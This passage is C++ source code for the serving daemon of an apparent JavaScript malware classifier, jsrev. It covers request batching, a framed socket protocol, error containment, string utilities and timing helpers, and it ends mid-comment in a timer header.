// Three pieces, deliberately free of socket code so tests and benches drive
// them in-process (the fd plumbing lives in serve/server.h):
//
//  * ServeModel — one serving handle over the two detector flavors: it opens
//    a path as a mapped JSRM v3 artifact (core::ModelView, the zero-copy
//    path) and falls back to the legacy stream loader (core::JsRevealer)
//    when the file is not an artifact. Classification and provenance go
//    through whichever half loaded; parse limits and the deobfuscate flag
//    are mirrored out so callers build bit-identical ScriptAnalysis inputs.
//
//  * Batcher — the CASCADE-shaped serving loop: producers enqueue requests,
//    one worker coalesces whatever is pending (capped at max_batch) and runs
//    the batch through the analyze_corpus idiom — parallel ScriptAnalysis
//    warm-up, then parallel classification on the shared ThreadPool — so a
//    burst of N scripts costs one fan-out, not N wake-ups. Batching policy
//    is greedy: a batch launches as soon as the worker is free and the queue
//    is non-empty; no artificial accumulation window is ever inserted, so an
//    idle daemon answers a lone request at single-script latency.
//
//  * Admission control — js::ParseLimits is the contract: max_source_bytes
//    bounds accepted payloads (the server rejects larger frames before they
//    buffer), and depth/token bombs inside accepted scripts surface as the
//    ordinary unparseable ⇒ malicious verdict. The bounded queue
//    (max_queue) converts overload into immediate rejected=true responses
//    instead of unbounded memory growth.
//
// Telemetry lands in the process-wide obs registry: serve.requests,
// serve.batch_size, serve.queue_depth, serve.rejected, per-stage
// serve.stage_ms{stage=analyze|classify} and end-to-end serve.latency_ms
// histograms — drainable over the wire via the STATS control frame.
#pragma once

#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <thread>

#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "js/parse_limits.h"
#include "obs/metrics.h"

namespace jsrev::serve {

struct ServeOptions {
  /// Parallel width inside one batch (0 = hardware concurrency).
  std::size_t threads = 0;
  /// Most requests coalesced into one batch.
  std::size_t max_batch = 64;
  /// Queue capacity; submissions beyond it are rejected immediately.
  std::size_t max_queue = 4096;
  /// Frontend resource bounds; max_source_bytes doubles as the frame payload
  /// cap. Defaulted from the model's own limits by ServeModel::options().
  js::ParseLimits limits;
  /// Normalize scripts through src/deob before classification (defaulted
  /// from the model).
  bool deobfuscate = false;
  /// Requests whose enqueue→completion latency reaches this many
  /// milliseconds draw a structured serve.slow_request log record carrying
  /// the request id. 0 disables the check.
  double slow_ms = 0.0;
};

/// One serving handle over a mapped artifact or a legacy stream model.
class ServeModel {
 public:
  /// Opens `path`: first as a JSRM v3 artifact (mapped read-only,
  /// zero-copy), then — when that raises ser::ModelFormatError — as a
  /// v1/v2/v3 stream model. Throws std::runtime_error when neither loads.
  explicit ServeModel(const std::string& path);

  /// True when the artifact path loaded (zero-copy serving).
  bool mapped() const { return view_ != nullptr; }
  std::string name() const;

  /// Classifies a pre-built analysis; bit-identical to the underlying
  /// detector's classify(source) when the analysis was built with
  /// parse_limits()/deobfuscate().
  int classify(const analysis::ScriptAnalysis& analysis) const;

  /// The model's frontend bounds / normalization flag, for building
  /// matching analyses.
  js::ParseLimits parse_limits() const;
  bool deobfuscate() const;

  /// ServeOptions pre-filled from this model's configuration.
  ServeOptions options() const;

  /// Serving format tag: "jsrm-mapped" for the zero-copy artifact path,
  /// "stream" for the legacy loader (telemetry label, /statusz field).
  std::string format() const;
  /// Artifact format version (mapped path); 0 for stream models.
  std::uint32_t format_version() const;
  /// Width of the lint summary tail in the feature vector (0 = lint off).
  std::size_t lint_dim() const;
  std::size_t feature_count() const;

  /// The mapped artifact behind this model; nullptr on the stream path
  /// (callers wanting section tables / checksums, e.g. /statusz).
  const core::ModelView* view() const { return view_.get(); }

 private:
  std::unique_ptr<core::ModelView> view_;
  std::unique_ptr<core::JsRevealer> heap_;
};

/// Registers the jsr_build_info / jsr_model_info identity gauges (value 1,
/// identity in labels — the Prometheus idiom for exposing build metadata)
/// in the global obs registry. Called once at daemon startup.
void register_build_info(const ServeModel& model,
                         const std::string& model_path);

struct ServeRequest {
  std::uint32_t id = 0;
  std::string source;
  bool want_provenance = false;
};

struct ServeResponse {
  std::uint32_t id = 0;
  int verdict = -1;
  /// The script did not parse; verdict is the unparseable convention.
  bool parse_failed = false;
  /// Admission control turned the request away (queue full or draining);
  /// `error` carries the reason and no classification ran.
  bool rejected = false;
  std::string error;
  /// Provenance JSON when the request asked for it.
  std::string provenance_json;
};

/// Coalesces concurrent classification requests into parallel batches.
/// Thread-safe: any number of producer threads may submit concurrently.
class Batcher {
 public:
  /// `done` callbacks run on the batch worker thread (rejections run on the
  /// submitting thread); they must not block for long and must not call
  /// back into submit().
  using Completion = std::function<void(ServeResponse)>;

  /// Starts the worker. `model` must outlive the Batcher.
  Batcher(const ServeModel& model, ServeOptions opts);
  ~Batcher();

  Batcher(const Batcher&) = delete;
  Batcher& operator=(const Batcher&) = delete;

  /// Enqueues one request. On admission failure `done` fires inline with
  /// rejected=true.
  void submit(ServeRequest req, Completion done);

  /// Blocks until every accepted request has completed.
  void drain();

  /// Drains accepted work, then stops the worker. Idempotent; subsequent
  /// submissions are rejected with "draining".
  void shutdown();

  std::size_t queue_depth() const;

 private:
  struct Pending {
    ServeRequest req;
    Completion done;
    // Enqueue stamp; serve.latency_ms = completion - enqueue, so queue wait
    // under overload is part of the reported latency, not hidden by it.
    std::chrono::steady_clock::time_point enqueued;
    // Tracer timestamp at enqueue, when tracing was live then; -1 otherwise.
    // Lets run_batch emit a "req N queue" span covering the coalescing wait.
    std::int64_t trace_enqueue_us = -1;
  };

  void worker_loop();
  void run_batch(std::vector<Pending> batch);

  const ServeModel& model_;
  const ServeOptions opts_;

  mutable std::mutex mu_;
  std::condition_variable work_cv_;   // queue became non-empty / stopping
  std::condition_variable drain_cv_;  // queue + in-flight hit zero
  std::deque<Pending> queue_;
  std::size_t in_flight_ = 0;
  bool stopping_ = false;
  std::thread worker_;

  // Cold-path-created, hot-path-cached metric handles.
  obs::Counter* requests_ = nullptr;
  obs::Counter* rejected_full_ = nullptr;
  obs::Counter* rejected_draining_ = nullptr;
  obs::Gauge* queue_depth_gauge_ = nullptr;
  obs::Histogram* batch_size_ = nullptr;
  obs::Histogram* stage_analyze_ms_ = nullptr;
  obs::Histogram* stage_classify_ms_ = nullptr;
  obs::Histogram* latency_ms_ = nullptr;
};

}  // namespace jsrev::serve
