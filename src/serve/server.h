// Connection layer of the jsr_serve daemon.
//
// The Server owns the fd plumbing around serve::Batcher: it accepts
// connections on a Unix-domain or TCP listener (or serves exactly one
// fd pair — the daemon's --stdio mode and the in-process tests), reads
// length-prefixed frames (serve/frame.h), routes kClassify payloads into the
// Batcher, and writes responses back under a per-connection write lock so
// batched completions never interleave bytes.
//
// Failure containment is the contract the malformed-frame tests pin down:
// a bad magic byte, an unknown frame type, or an oversized payload draws a
// kError response and closes that one connection — the accept loop, every
// other connection, and the daemon itself keep running. Unparseable scripts
// are not even an error: they flow through the ordinary unparseable ⇒
// malicious verdict with the kParseFailed flag set.
//
// Shutdown is graceful by construction: request_shutdown() (async-signal-
// safe — SIGTERM/SIGINT handlers call it) tickles a self-pipe every reader
// polls; readers stop consuming input, in-flight batches complete, their
// responses flush, and run() joins every connection thread before returning.
// A kQuit frame does the same dance and additionally answers kBye after the
// drain, so a client can confirm its requests all landed.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "serve/frame.h"
#include "serve/serve.h"

namespace jsrev::serve {

class Server {
 public:
  /// `model` must outlive the server. Installs a SIG_IGN for SIGPIPE (a
  /// client hanging up mid-response must not kill the daemon).
  Server(const ServeModel& model, ServeOptions opts);
  ~Server();

  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Serves one pre-connected fd pair (stdin/stdout in --stdio mode, one
  /// end of a socketpair in tests) on the calling thread; returns after EOF
  /// or kQuit, with every accepted request answered.
  void serve_fd(int in_fd, int out_fd);

  /// Binds a listener. Throws std::runtime_error on bind/listen failure.
  void listen_unix(const std::string& path);
  void listen_tcp(std::uint16_t port);

  /// For TCP listeners bound to port 0: the actual port. 0 otherwise.
  std::uint16_t bound_port() const { return bound_port_; }

  /// Accept loop: one reader thread per connection, until
  /// request_shutdown(). Joins every connection and drains the batcher
  /// before returning.
  void run();

  /// Requests a graceful stop. Async-signal-safe (one write() to a pipe);
  /// callable from signal handlers and from any thread.
  void request_shutdown() noexcept;

  bool shutdown_requested() const noexcept {
    return shutdown_.load(std::memory_order_relaxed);
  }

  /// Readiness for the admin plane's /readyz: true from construction until
  /// the daemon starts draining — request_shutdown() and a received kQuit
  /// both clear it *before* the drain begins, so a load balancer watching
  /// /readyz sees 503 strictly before the frame plane's kBye goes out.
  bool ready() const noexcept { return ready_.load(std::memory_order_relaxed); }

  /// The batcher behind this server (tests inspect queue depth).
  Batcher& batcher() { return batcher_; }

 private:
  struct Conn {
    int in_fd = -1;
    int out_fd = -1;
    bool own_fds = false;  // accepted sockets are closed by us; stdio is not
    std::mutex write_mu;
    std::mutex pending_mu;
    std::condition_variable pending_cv;
    std::size_t pending = 0;          // submitted, not yet answered
    std::atomic<bool> open{true};

    void add_pending();
    void sub_pending();
    void wait_idle();
  };

  enum class Disposition {
    kContinue,  // keep reading this connection
    kClose,     // protocol violation: error answered, drop this connection
    kQuit,      // kQuit received: drain, say kBye, stop the daemon
  };

  /// Reads and dispatches frames until EOF/error/kQuit/shutdown, then waits
  /// for in-flight responses to flush. Returns true when the connection
  /// asked the whole daemon to quit.
  bool conn_loop(const std::shared_ptr<Conn>& conn);

  Disposition handle_frame(const std::shared_ptr<Conn>& conn, Frame frame);

  void write_frame(const std::shared_ptr<Conn>& conn, const Frame& frame);

  ServeOptions opts_;
  Batcher batcher_;

  int listen_fd_ = -1;
  std::uint16_t bound_port_ = 0;
  std::string unix_path_;  // unlinked on destruction when non-empty

  int wake_pipe_[2] = {-1, -1};  // self-pipe; [1] written by request_shutdown
  std::atomic<bool> shutdown_{false};
  std::atomic<bool> ready_{true};

  std::mutex conns_mu_;
  std::vector<std::shared_ptr<Conn>> conns_;
  std::vector<std::thread> conn_threads_;

  obs::Counter* connections_ = nullptr;
  obs::Counter* frame_errors_ = nullptr;
  obs::Counter* internal_errors_ = nullptr;
};

}  // namespace jsrev::serve
