// Length-prefixed framing for the jsr_serve classification protocol.
//
// Wire format (all integers little-endian):
//
//   offset  size  field
//   0       2     magic bytes 'J' 'R'
//   2       1     frame type (FrameType)
//   3       1     flags (FrameFlags bit set)
//   4       4     request id, echoed verbatim in the matching response
//   8       4     payload length in bytes
//   12      N     payload
//
// The codec is pure (no I/O): encode_frame serializes one frame,
// decode_frame consumes the longest well-formed prefix of a byte buffer.
// Malformed input is a value, never an exception — the server turns every
// non-kOk status except kNeedMore into an error response on that one
// connection and closes it; the daemon itself never dies on wire garbage.
//
// Request frames: kClassify (payload = script source, flags may set
// kWantProvenance), kPing, kStats (drains the obs metrics registry as JSON),
// kQuit (graceful drain + shutdown). Response frames: kVerdict (payload "0"
// or "1", or the provenance JSON when requested; kParseFailed flag marks the
// unparseable⇒malicious convention verdict), kPong, kStatsJson, kBye (sent
// after a drain completes), kError (payload = reason text).
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

namespace jsrev::serve {

inline constexpr std::size_t kFrameHeaderBytes = 12;
inline constexpr char kMagic0 = 'J';
inline constexpr char kMagic1 = 'R';

enum class FrameType : std::uint8_t {
  // Requests.
  kClassify = 0x01,
  kPing = 0x02,
  kStats = 0x03,
  kQuit = 0x04,
  // Responses.
  kVerdict = 0x81,
  kPong = 0x82,
  kStatsJson = 0x83,
  kBye = 0x84,
  kError = 0xee,
};

enum FrameFlags : std::uint8_t {
  /// kClassify: answer with the full provenance JSON instead of one byte.
  kWantProvenance = 0x01,
  /// kVerdict: the script did not parse; the verdict is the repository-wide
  /// unparseable ⇒ malicious convention, not a model decision.
  kParseFailed = 0x02,
};

struct Frame {
  FrameType type = FrameType::kClassify;
  std::uint8_t flags = 0;
  std::uint32_t id = 0;
  std::string payload;
};

/// Serializes `f` (header + payload) into a fresh buffer.
std::string encode_frame(const Frame& f);

/// Serializes `f` appending to `*out` (batched writes).
void append_frame(const Frame& f, std::string* out);

enum class DecodeStatus {
  kOk,        // one frame decoded, `*consumed` bytes eaten
  kNeedMore,  // prefix is consistent but incomplete; read more bytes
  kBadMagic,  // stream does not start with 'J''R' — cannot resync
  kBadType,   // header intact but the type byte is not a known frame type
  kTooLarge,  // header intact but payload length exceeds `max_payload`
};

std::string_view decode_status_name(DecodeStatus s) noexcept;

/// Decodes the first frame of `buf`. On kOk fills `*out` and sets
/// `*consumed` to the frame's full size. On kBadType/kTooLarge the header
/// fields (type byte as-is, flags, id) are copied into `*out` with an empty
/// payload so the caller can address its error response; `*consumed` stays 0.
/// `max_payload` bounds the accepted payload length (admission control —
/// callers pass their ParseLimits::max_source_bytes).
DecodeStatus decode_frame(std::string_view buf, std::size_t max_payload,
                          Frame* out, std::size_t* consumed);

}  // namespace jsrev::serve
