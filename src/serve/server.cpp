#include "serve/server.h"

#include <csignal>
#include <cstring>
#include <exception>
#include <stdexcept>
#include <utility>

#include "obs/log.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

namespace jsrev::serve {
namespace {

void throw_errno(const std::string& what) {
  throw std::runtime_error(what + ": " + std::strerror(errno));
}

void set_cloexec(int fd) { ::fcntl(fd, F_SETFD, FD_CLOEXEC); }

/// Writes all of `data` to `fd`, retrying on EINTR / partial writes.
/// Returns false on any hard error (the peer hung up; SIGPIPE is ignored).
bool write_all(int fd, std::string_view data) {
  while (!data.empty()) {
    const ssize_t n = ::write(fd, data.data(), data.size());
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return true;
}

}  // namespace

void Server::Conn::add_pending() {
  std::lock_guard<std::mutex> lock(pending_mu);
  ++pending;
}

void Server::Conn::sub_pending() {
  {
    std::lock_guard<std::mutex> lock(pending_mu);
    --pending;
    if (pending != 0) return;
  }
  pending_cv.notify_all();
}

void Server::Conn::wait_idle() {
  std::unique_lock<std::mutex> lock(pending_mu);
  pending_cv.wait(lock, [this] { return pending == 0; });
}

Server::Server(const ServeModel& model, ServeOptions opts)
    : opts_(opts), batcher_(model, opts) {
  ::signal(SIGPIPE, SIG_IGN);
  if (::pipe(wake_pipe_) != 0) throw_errno("pipe");
  set_cloexec(wake_pipe_[0]);
  set_cloexec(wake_pipe_[1]);
  connections_ = obs::metrics().counter("serve.connections");
  frame_errors_ = obs::metrics().counter("serve.errors",
                                         {{"kind", "frame"}});
  internal_errors_ = obs::metrics().counter("serve.errors",
                                            {{"kind", "internal"}});
}

Server::~Server() {
  request_shutdown();
  batcher_.shutdown();
  if (listen_fd_ >= 0) ::close(listen_fd_);
  if (!unix_path_.empty()) ::unlink(unix_path_.c_str());
  ::close(wake_pipe_[0]);
  ::close(wake_pipe_[1]);
}

void Server::request_shutdown() noexcept {
  // Readiness drops first (both stores are async-signal-safe): any /readyz
  // probe racing the shutdown sees "draining" before connections do.
  ready_.store(false, std::memory_order_relaxed);
  shutdown_.store(true, std::memory_order_relaxed);
  const char byte = 1;
  // Best-effort, async-signal-safe: one write to the self-pipe wakes every
  // poll(). The result is ignored — a full pipe already guarantees a wakeup.
  [[maybe_unused]] const ssize_t n = ::write(wake_pipe_[1], &byte, 1);
}

void Server::listen_unix(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    throw std::runtime_error("unix socket path too long: " + path);
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);

  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) throw_errno("socket(AF_UNIX)");
  set_cloexec(fd);
  ::unlink(path.c_str());  // stale socket from a previous run
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    throw_errno("bind(" + path + ")");
  }
  if (::listen(fd, 64) != 0) {
    ::close(fd);
    throw_errno("listen(" + path + ")");
  }
  listen_fd_ = fd;
  unix_path_ = path;
}

void Server::listen_tcp(std::uint16_t port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) throw_errno("socket(AF_INET)");
  set_cloexec(fd);
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    throw_errno("bind(127.0.0.1:" + std::to_string(port) + ")");
  }
  if (::listen(fd, 64) != 0) {
    ::close(fd);
    throw_errno("listen");
  }
  sockaddr_in bound{};
  socklen_t len = sizeof(bound);
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&bound), &len) == 0) {
    bound_port_ = ntohs(bound.sin_port);
  }
  listen_fd_ = fd;
}

void Server::run() {
  if (listen_fd_ < 0) {
    throw std::logic_error("Server::run without listen_unix/listen_tcp");
  }
  while (!shutdown_requested()) {
    pollfd fds[2] = {{listen_fd_, POLLIN, 0}, {wake_pipe_[0], POLLIN, 0}};
    const int rc = ::poll(fds, 2, -1);
    if (rc < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if ((fds[1].revents & POLLIN) != 0 || shutdown_requested()) break;
    if ((fds[0].revents & POLLIN) == 0) continue;

    const int client = ::accept(listen_fd_, nullptr, nullptr);
    if (client < 0) continue;
    set_cloexec(client);
    connections_->add();

    auto conn = std::make_shared<Conn>();
    conn->in_fd = client;
    conn->out_fd = client;
    conn->own_fds = true;
    std::lock_guard<std::mutex> lock(conns_mu_);
    conns_.push_back(conn);
    conn_threads_.emplace_back([this, conn] {
      // Backstop containment: an exception escaping the connection loop
      // must cost one connection, never the process (an uncaught exception
      // on a thread is std::terminate).
      bool quit = false;
      try {
        quit = conn_loop(conn);
      } catch (const std::exception& e) {
        internal_errors_->add();
        obs::LogRecord(obs::LogLevel::kError, "serve.conn_thread_error")
            .kv("what", e.what());
      }
      conn->open.store(false, std::memory_order_relaxed);
      ::close(conn->in_fd);  // == out_fd for accepted sockets
      if (quit) request_shutdown();
    });
  }

  // Drain: readers have stopped (self-pipe); finish in-flight work, flush
  // every response, then join the connection threads.
  batcher_.drain();
  std::vector<std::thread> threads;
  {
    std::lock_guard<std::mutex> lock(conns_mu_);
    threads.swap(conn_threads_);
    conns_.clear();
  }
  for (std::thread& t : threads) t.join();
}

void Server::serve_fd(int in_fd, int out_fd) {
  auto conn = std::make_shared<Conn>();
  conn->in_fd = in_fd;
  conn->out_fd = out_fd;
  conn->own_fds = false;
  bool quit = false;
  try {
    quit = conn_loop(conn);
  } catch (const std::exception& e) {
    internal_errors_->add();
    obs::LogRecord(obs::LogLevel::kError, "serve.conn_thread_error")
        .kv("what", e.what());
  }
  conn->open.store(false, std::memory_order_relaxed);
  if (quit) request_shutdown();
}

bool Server::conn_loop(const std::shared_ptr<Conn>& conn) {
  std::string buf;
  char chunk[64 * 1024];
  bool quit = false;
  bool reading = true;

  while (reading && !shutdown_requested()) {
    pollfd fds[2] = {{conn->in_fd, POLLIN, 0}, {wake_pipe_[0], POLLIN, 0}};
    const int rc = ::poll(fds, 2, -1);
    if (rc < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if ((fds[1].revents & POLLIN) != 0) break;  // shutdown requested
    if ((fds[0].revents & (POLLIN | POLLHUP | POLLERR)) == 0) continue;

    const ssize_t n = ::read(conn->in_fd, chunk, sizeof(chunk));
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) break;  // EOF or hard error
    buf.append(chunk, static_cast<std::size_t>(n));

    while (!buf.empty()) {
      Frame frame;
      std::size_t consumed = 0;
      const DecodeStatus st =
          decode_frame(buf, opts_.limits.max_source_bytes, &frame, &consumed);
      if (st == DecodeStatus::kNeedMore) break;
      if (st != DecodeStatus::kOk) {
        // Malformed wire data: answer with the reason, drop the connection,
        // keep the daemon alive. The stream cannot be resynced, so closing
        // is the only safe recovery.
        frame_errors_->add();
        static obs::LogRateLimit rl(/*per_sec=*/2.0, /*burst=*/10.0);
        obs::LogRecord(obs::LogLevel::kWarn, "serve.frame_error", rl)
            .kv("request_id", frame.id)
            .kv("reason", decode_status_name(st));
        Frame err;
        err.type = FrameType::kError;
        err.id = frame.id;  // header id when it was readable, else 0
        err.payload = std::string("malformed frame: ") +
                      std::string(decode_status_name(st));
        write_frame(conn, err);
        reading = false;
        break;
      }
      buf.erase(0, consumed);
      const std::uint32_t frame_id = frame.id;
      Disposition d;
      try {
        d = handle_frame(conn, std::move(frame));
      } catch (const std::exception& e) {
        // An unexpected serving-path failure used to close the connection
        // silently; now it answers, counts, and logs with the request id so
        // the client-side timeout has a server-side record to join against.
        internal_errors_->add();
        obs::LogRecord(obs::LogLevel::kError, "serve.internal_error")
            .kv("request_id", frame_id)
            .kv("what", e.what());
        Frame err;
        err.type = FrameType::kError;
        err.id = frame_id;
        err.payload = std::string("internal error: ") + e.what();
        write_frame(conn, err);
        d = Disposition::kClose;
      }
      if (d == Disposition::kClose) {
        reading = false;
        break;
      }
      if (d == Disposition::kQuit) {
        quit = true;
        reading = false;
        break;
      }
    }
  }

  if (quit) {
    // Graceful daemon drain: every accepted request (all connections)
    // completes and this connection's responses flush before kBye.
    batcher_.drain();
    conn->wait_idle();
    Frame bye;
    bye.type = FrameType::kBye;
    write_frame(conn, bye);
  } else {
    // Let in-flight responses for this connection flush before closing.
    conn->wait_idle();
  }
  return quit;
}

Server::Disposition Server::handle_frame(const std::shared_ptr<Conn>& conn,
                                         Frame frame) {
  switch (frame.type) {
    case FrameType::kClassify: {
      ServeRequest req;
      req.id = frame.id;
      req.source = std::move(frame.payload);
      req.want_provenance = (frame.flags & kWantProvenance) != 0;
      conn->add_pending();
      batcher_.submit(std::move(req), [this, conn](ServeResponse resp) {
        Frame out;
        out.id = resp.id;
        if (resp.rejected) {
          out.type = FrameType::kError;
          out.payload = std::move(resp.error);
        } else {
          out.type = FrameType::kVerdict;
          if (resp.parse_failed) out.flags |= kParseFailed;
          out.payload = resp.provenance_json.empty()
                            ? std::string(1, static_cast<char>(
                                                 '0' + (resp.verdict & 1)))
                            : std::move(resp.provenance_json);
        }
        write_frame(conn, out);
        conn->sub_pending();
      });
      return Disposition::kContinue;
    }
    case FrameType::kPing: {
      Frame out;
      out.type = FrameType::kPong;
      out.id = frame.id;
      out.payload = std::move(frame.payload);
      write_frame(conn, out);
      return Disposition::kContinue;
    }
    case FrameType::kStats: {
      Frame out;
      out.type = FrameType::kStatsJson;
      out.id = frame.id;
      out.payload = obs::metrics().to_json();
      write_frame(conn, out);
      return Disposition::kContinue;
    }
    case FrameType::kQuit:
      // Readiness flips before the drain starts, so /readyz reports 503
      // strictly before this connection's kBye confirms the drain finished.
      ready_.store(false, std::memory_order_relaxed);
      obs::LogRecord(obs::LogLevel::kInfo, "serve.quit")
          .kv("request_id", frame.id);
      return Disposition::kQuit;
    default: {
      // A response-type frame from a client is a protocol violation, same
      // containment as wire garbage: answer, close, keep serving others.
      frame_errors_->add();
      Frame err;
      err.type = FrameType::kError;
      err.id = frame.id;
      err.payload = "unexpected frame type";
      write_frame(conn, err);
      return Disposition::kClose;
    }
  }
}

void Server::write_frame(const std::shared_ptr<Conn>& conn,
                         const Frame& frame) {
  if (!conn->open.load(std::memory_order_relaxed)) return;
  const std::string bytes = encode_frame(frame);
  std::lock_guard<std::mutex> lock(conn->write_mu);
  if (!write_all(conn->out_fd, bytes)) {
    conn->open.store(false, std::memory_order_relaxed);
  }
}

}  // namespace jsrev::serve
