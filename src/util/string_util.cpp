#include "util/string_util.h"

#include <cctype>
#include <climits>
#include <cstdio>

namespace jsrev {

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.emplace_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::string join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i != 0) out += sep;
    out += parts[i];
  }
  return out;
}

std::string_view trim(std::string_view s) {
  std::size_t b = 0;
  std::size_t e = s.size();
  while (b < e && std::isspace(static_cast<unsigned char>(s[b]))) ++b;
  while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1]))) --e;
  return s.substr(b, e - b);
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.size() >= prefix.size() && s.substr(0, prefix.size()) == prefix;
}

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() &&
         s.substr(s.size() - suffix.size()) == suffix;
}

std::string replace_all(std::string s, std::string_view from,
                        std::string_view to) {
  if (from.empty()) return s;
  std::string out;
  out.reserve(s.size());
  std::size_t pos = 0;
  while (true) {
    const std::size_t hit = s.find(from, pos);
    if (hit == std::string::npos) {
      out.append(s, pos, std::string::npos);
      return out;
    }
    out.append(s, pos, hit - pos);
    out.append(to);
    pos = hit + from.size();
  }
}

std::string fmt(double v, int prec) {
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.*f", prec, v);
  return buf;
}

std::string js_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 2);
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      case '\b': out += "\\b"; break;
      case '\f': out += "\\f"; break;
      case '\v': out += "\\v"; break;
      default: {
        const unsigned char u = static_cast<unsigned char>(c);
        if (u < 0x20 || u == 0x7f) {
          // Remaining control bytes (NUL included) as \xNN: emitting them
          // raw would break print→reparse, and \x00 side-steps the
          // `\0`-followed-by-digit octal ambiguity entirely.
          char buf[5];
          std::snprintf(buf, sizeof buf, "\\x%02x", u);
          out += buf;
        } else {
          out += c;
        }
        break;
      }
    }
  }
  return out;
}

bool parse_u64(std::string_view s, std::uint64_t* out) {
  if (s.empty()) return false;
  std::uint64_t v = 0;
  for (const char c : s) {
    if (c < '0' || c > '9') return false;
    const auto digit = static_cast<std::uint64_t>(c - '0');
    if (v > (UINT64_MAX - digit) / 10) return false;  // would overflow
    v = v * 10 + digit;
  }
  *out = v;
  return true;
}

bool parse_size(std::string_view s, std::size_t* out) {
  std::uint64_t v = 0;
  if (!parse_u64(s, &v)) return false;
  if constexpr (sizeof(std::size_t) < sizeof(std::uint64_t)) {
    if (v > static_cast<std::uint64_t>(SIZE_MAX)) return false;
  }
  *out = static_cast<std::size_t>(v);
  return true;
}

bool parse_positive_int(std::string_view s, int* out) {
  std::uint64_t v = 0;
  if (!parse_u64(s, &v) || v == 0 || v > INT_MAX) return false;
  *out = static_cast<int>(v);
  return true;
}

}  // namespace jsrev
