// Wall-clock timing helpers used by the per-stage runtime instrumentation
// (Table VIII reproduction).
#pragma once

#include <chrono>
#include <cmath>
#include <cstddef>
#include <vector>

namespace jsrev {

/// Simple stopwatch reporting elapsed milliseconds.
class Timer {
 public:
  Timer() : start_(Clock::now()) {}

  void reset() { start_ = Clock::now(); }

  /// Elapsed time since construction/reset, in milliseconds.
  double elapsed_ms() const {
    return std::chrono::duration<double, std::milli>(Clock::now() - start_)
        .count();
  }

 private:
  using Clock = std::chrono::steady_clock;
  Clock::time_point start_;
};

/// Accumulates timing samples and reports mean/stddev, as Table VIII does.
/// Per-item samples (add) measure the work done; wall-clock samples
/// (add_wall) measure how long the enclosing — possibly parallel — region
/// took, so sum(samples) / wall is the effective parallel speedup of a stage
/// at the configured thread count.
class TimingStats {
 public:
  void add(double ms) { samples_.push_back(ms); }

  /// Records the wall-clock duration of one parallel region of this stage.
  void add_wall(double ms) { wall_ms_ += ms; }

  /// Total wall-clock time of the stage's parallel regions.
  double wall_ms() const { return wall_ms_; }

  /// Sum of the per-item samples (CPU-work view of the stage).
  double total() const {
    double s = 0.0;
    for (const double v : samples_) s += v;
    return s;
  }

  std::size_t count() const { return samples_.size(); }

  double mean() const {
    if (samples_.empty()) return 0.0;
    double s = 0.0;
    for (const double v : samples_) s += v;
    return s / static_cast<double>(samples_.size());
  }

  double stddev() const {
    if (samples_.size() < 2) return 0.0;
    const double m = mean();
    double s = 0.0;
    for (const double v : samples_) s += (v - m) * (v - m);
    return std::sqrt(s / static_cast<double>(samples_.size() - 1));
  }

 private:
  std::vector<double> samples_;
  double wall_ms_ = 0.0;
};

}  // namespace jsrev
