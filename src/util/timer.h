// Wall-clock timing helpers used by the per-stage runtime instrumentation
// (Table VIII reproduction).
#pragma once

#include <chrono>
#include <cstddef>

#include "obs/metrics.h"

namespace jsrev {

/// Simple stopwatch reporting elapsed milliseconds.
class Timer {
 public:
  Timer() : start_(Clock::now()) {}

  void reset() { start_ = Clock::now(); }

  /// Elapsed time since construction/reset, in milliseconds.
  double elapsed_ms() const {
    return std::chrono::duration<double, std::milli>(Clock::now() - start_)
        .count();
  }

 private:
  using Clock = std::chrono::steady_clock;
  Clock::time_point start_;
};

/// Accumulates timing samples and reports mean/stddev, as Table VIII does.
///
/// A thin view over the obs metrics primitives: per-item samples (add) and
/// per-region wall samples (add_wall) land in two obs::Summary accumulators,
/// which retain count/sum/sum-of-squares instead of the raw samples — mean
/// and (sample) stddev are exact, memory is O(1). When constructed with a
/// stage name, every sample is additionally mirrored into the process-wide
/// registry (`stage_ms{stage=...}` / `stage_wall_ms{stage=...}`), so the
